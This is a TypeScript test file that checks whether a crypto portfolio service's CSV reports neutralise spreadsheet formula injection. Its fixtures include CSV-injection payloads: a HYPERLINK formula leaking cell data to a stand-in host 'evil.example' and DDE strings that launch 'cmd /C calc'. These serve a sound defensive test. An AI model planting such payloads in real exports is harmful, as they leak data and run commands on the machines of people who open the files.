import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writePortfolioReport, writePriceReport } from '../../src/ops/report-output.ts';
import { loadPortfolioReport } from '../../src/ops/report-portfolio.ts';
import { openPriceReport } from '../../src/ops/report-prices.ts';
import { reportRange } from '../../src/ops/report-request.ts';
import { nftJobs, positionJobs, priceJobs } from '../../src/scheduler/job-builders.ts';
import { startScriptedPipeline, type ScriptedPipeline } from '../support/scripted-upstream.ts';
import { parseCsv } from './csv.ts';

// Formula text from the upstream in every text column of every CSV report (issue 24, item 4),
// ingested through the real client and Postgres, then read back as a spreadsheet would get it.
let pipeline: ScriptedPipeline;
const OWNER = `0x${'e6'.repeat(32)}`;
const SUI = '0x2::sui::SUI';
const SUI_LONG = `0x${'0'.repeat(63)}2::sui::SUI`;
const TICK = new Date('2026-11-21T12:00:00Z');
const HOUR = 3_600_000;

const FORMULA = {
  positionId: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  protocolId: '+SUM(1,2)',
  protocolName: '@SUM(A1)',
  type: "-2+3+cmd|' /C calc'!A0",
  chain: '\t=1+1',
  collectionId: '=1+2',
  collectionName: '=HYPERLINK("http://evil.example/","Open")',
  nftChain: '@SOL',
  nativeSymbol: '-1+1',
  symbol: '=cmd|"/C calc"!A0',
};

/** What a spreadsheet must get: the text behind a single quote. */
const neutral = (text: string) => `'${text}`;

beforeAll(async () => {
  pipeline = await startScriptedPipeline();
  const watched = { address: OWNER, chain: null, protocols: null, nftChain: 'ALL', includePnl: true } as const;
  const positions = {
    data: [
      {
        positionId: FORMULA.positionId,
        chain: FORMULA.chain,
        type: FORMULA.type,
        // Worth less than was put in: a negative PnL, which must stay a number.
        input: [
          { amount: 100, value: 100, token: SUI },
          // A whole position as collateral: stored as a child, its parent_position_id the formula.
          { positionId: 'collateral', chain: 'SUI', type: 'Lending', input: [], current: { tokens: [], yield: [] } },
        ],
        current: { tokens: [{ amount: 1, value: 40, token: SUI }], yield: [] },
        meta: { protocol: { protocol: FORMULA.protocolId, name: FORMULA.protocolName } },
      },
    ],
  };
  const groups = [
    {
      collectionId: FORMULA.collectionId,
      collection: { name: FORMULA.collectionName, chain: FORMULA.nftChain },
      nativeToken: { symbol: FORMULA.nativeSymbol },
      tokens: [{ tokenId: '1' }],
      floorPrice: 2,
      marketPrice: 3,
      profit: { realizedPnL: -5, unrealizedPnL: '-0.25' },
    },
  ];
  for (const [queue, body, planned] of [
    ['positions', positions, positionJobs([watched], TICK, false)[0]!],
    ['nfts', groups, nftJobs([watched], TICK)[0]!],
  ] as const) {
    pipeline.answer(queue, JSON.stringify(body));
    expect(await pipeline.runJob(queue, planned)).toMatchObject({ state: 'completed' });
  }
  for (const at of [TICK, new Date(TICK.getTime() + HOUR)]) {
    const entry = { contract_address: SUI, symbol: FORMULA.symbol, price: 1.5, timestamp: at.getTime() / 1000 };
    pipeline.answer('prices', JSON.stringify({ data: [entry] }));
    expect(await pipeline.runJob('prices', priceJobs([SUI], at)[0]!)).toMatchObject({ state: 'completed' });
  }
});
afterAll(async () => pipeline?.close());

/** A report written to a string. */
async function written(write: (sink: { write(text: string): Promise<void> }) => Promise<number>): Promise<string> {
  let text = '';
  await write({ write: async (piece) => void (text += piece) });
  return text;
}

const range = reportRange({ from: TICK, to: new Date(TICK.getTime() + 2 * HOUR), interval: '1h' }, TICK);

describe('CSV reports hold no formula a spreadsheet would run', () => {
  it('the portfolio report: every text column neutralised, every number still a number', async () => {
    const report = await loadPortfolioReport(pipeline.harness.database, { address: OWNER, range, now: TICK });
    const { records } = parseCsv(await written((sink) => writePortfolioReport(report, 'csv', sink)));
    const parent = records.find((record) => record.section === 'position' && record.parent_position_id === '');
    const child = records.find((record) => record.section === 'position' && record.parent_position_id !== '');
    const nft = records.find((record) => record.section === 'nft');
    expect(parent).toMatchObject({
      position_id: neutral(FORMULA.positionId),
      protocol_id: neutral(FORMULA.protocolId),
      protocol_name: neutral(FORMULA.protocolName),
      type: neutral(FORMULA.type),
      chain: neutral(FORMULA.chain),
      input_value: '100',
      pnl: '-60',
    });
    expect(child).toMatchObject({
      position_id: neutral(`${FORMULA.positionId}/input/1`),
      parent_position_id: neutral(FORMULA.positionId),
    });
    expect(nft).toMatchObject({
      collection_id: neutral(FORMULA.collectionId),
      collection_name: neutral(FORMULA.collectionName),
      chain: neutral(FORMULA.nftChain),
      native_token_symbol: neutral(FORMULA.nativeSymbol),
      realized_pnl: '-5',
      unrealized_pnl: '-0.25',
    });
    // And nowhere else: no field of any record starts a formula but a number.
    for (const record of records)
      for (const [column, field] of Object.entries(record))
        expect(/^[=+\-@\t\r]/.test(field) && !/^[+-]?[\d.]+(e[+-]?\d+)?$/i.test(field), `${column}: ${field}`).toBe(
          false,
        );
  });

  it('the price report: the symbol neutralised, the coin type and the figures as they are', async () => {
    const report = await openPriceReport(pipeline.harness.database, { tokens: [SUI], range, now: TICK });
    const { records } = parseCsv(await written((sink) => writePriceReport(report, 'csv', sink)));
    expect(records.length).toBeGreaterThan(0);
    for (const record of records)
      expect(record).toMatchObject({ coin_type: SUI_LONG, symbol: neutral(FORMULA.symbol) });
    expect(records[0]).toMatchObject({ open: '1.5', close: '1.5', samples: '1' });
  });
});
